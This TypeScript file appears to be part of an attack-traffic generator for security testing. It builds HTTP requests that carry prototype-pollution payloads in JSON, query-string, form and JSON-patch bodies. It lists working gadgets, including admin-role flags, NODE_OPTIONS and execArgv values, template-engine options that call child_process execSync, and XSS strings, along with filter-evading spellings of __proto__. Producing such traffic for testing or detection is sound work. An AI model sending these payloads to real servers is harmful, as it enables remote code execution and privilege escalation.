import type { Random } from "../../../demo/random.ts";
import type { Draft } from "../../request.ts";
import { createGenerator, type WholeRequest } from "../attack-generator.ts";
import * as disguise from "../disguises.ts";
import { plainDraft, plainPairs, plainValue, word } from "../frame.ts";
import { characters } from "../grammar.ts";

const POLLUTED: (readonly [string, unknown])[] = [
  ["isAdmin", true],
  ["admin", true],
  ["role", "admin"],
  ["polluted", "yes"],
  ["shell", "node"],
  ["NODE_OPTIONS", "--require /proc/self/environ"],
  ["NODE_OPTIONS", "--inspect=203.0.113.9"],
  ["env", { EVIL: "console.log(require('child_process').execSync('id'))//" }],
  ["outputFunctionName", "x;process.mainModule.require('child_process').execSync('id');s"],
  ["client", true],
  ["escapeFunction", "1;return process.mainModule.require('child_process').execSync('id')"],
  ["block", { type: "Text", line: "process.mainModule.require('child_process').execSync('id')" }],
  ["innerHTML", "<img src=x onerror=alert(1)>"],
  ["src", "data:,alert(1)//"],
  ["srcdoc", "<script>alert(1)</script>"],
  ["json spaces", 10],
  ["status", 510],
  ["toString", null],
  ["sourceURL", "\u2028\u2029\nalert(1)"],
  ["allowDots", true],
  ["exposedHeaders", ["foo"]],
  ["transport_url", "data:,alert(1);"],
  ["argv0", "console.log(1)//"],
  ["execArgv", ["--eval=require('child_process').execSync('id')"]],
];

function pollution(random: Random): readonly [string, unknown] {
  if (random.chance(0.3)) return [characters(random, "a", 3, 9), plainValue(random)];
  return random.pick(POLLUTED);
}

function inJson(random: Random): Draft {
  const draft = plainDraft(random);
  draft.method = random.pick(["POST", "PUT", "PATCH"]);
  draft.headers["Content-Type"] = "application/json";
  const [name, value] = pollution(random);
  const evil = JSON.stringify({ [name]: value });
  const member = random.pick([
    `"__proto__":${evil}`,
    `"__proto__": ${evil}`,
    `"constructor":{"prototype":${evil}}`,
    `"constructor": {"prototype": ${evil}}`,
    `"__pro__proto__to__":${evil}`,
    `"\\u005f_proto__":${evil}`,
    `"__proto__.${name}":${JSON.stringify(value)}`,
    `"constructor.prototype.${name}":${JSON.stringify(value)}`,
    `"a":{"__proto__":${evil}}`,
    `"__proto__":[${evil}]`,
    `"__proto__":{"__proto__":${evil}}`,
  ]);
  const others = random.chance(0.6) ? `${JSON.stringify(word(random))}:${JSON.stringify(plainValue(random))},` : "";
  const body = `{${others}${member}}`;
  draft.body = random.chance(0.25) ? `{"${word(random)}":${body}}` : body;
  return draft;
}

function bracketName(random: Random, name: string): string {
  return random.pick([
    `__proto__[${name}]`,
    `__proto__.${name}`,
    `constructor[prototype][${name}]`,
    `constructor.prototype.${name}`,
    `${word(random)}[__proto__][${name}]`,
    `${word(random)}[constructor][prototype][${name}]`,
    `${word(random)}.__proto__.${name}`,
    `__proto__[__proto__][${name}]`,
    `__pro__proto__to__[${name}]`,
    `constconstructorructor[protoprototypetype][${name}]`,
    `__proto__[${name}][]`,
    `[__proto__][${name}]`,
  ]);
}

function pairs(random: Random): string {
  const [name, value] = pollution(random);
  const key = bracketName(random, name);
  const encoded = random.chance(0.6) ? key.replaceAll(" ", "%20") : encodeURIComponent(key);
  const text = typeof value === "string" ? value : JSON.stringify(value);
  return [...plainPairs(random, 2), `${encoded}=${encodeURIComponent(text)}`].join("&");
}

function inQuery(random: Random): Draft {
  return { ...plainDraft(random), query: pairs(random) };
}

function inForm(random: Random): Draft {
  const draft = plainDraft(random);
  draft.headers["Content-Type"] = "application/x-www-form-urlencoded";
  return { ...draft, method: "POST", body: pairs(random) };
}

function inPatch(random: Random): Draft {
  const draft = plainDraft(random);
  draft.headers["Content-Type"] = "application/json-patch+json";
  const [name, value] = pollution(random);
  const path = random.pick([`/__proto__/${name}`, `/constructor/prototype/${name}`, `/a/__proto__/${name}`]);
  return { ...draft, method: "PATCH", body: JSON.stringify([{ op: random.pick(["add", "replace"]), path, value }]) };
}

const whole: WholeRequest[] = [
  { shape: "prototype-in-json", write: inJson },
  { shape: "prototype-in-json", write: inJson },
  { shape: "prototype-in-query", write: inQuery },
  { shape: "prototype-in-form", write: inForm },
  { shape: "prototype-in-patch", write: inPatch },
];

/** Members that change what all objects of a JavaScript program have. */
export const prototype = createGenerator({
  class: "prototype",
  weight: 4,
  places: [
    "query-value",
    "query-name",
    "form-name",
    "json-name",
    "json",
    "json-in-json",
    "cookie",
    "multipart",
    "graphql",
  ],
  disguises: [disguise.percentOnce, disguise.unicodeEscapes],
  whole,
  wholeShare: 0.75,
});
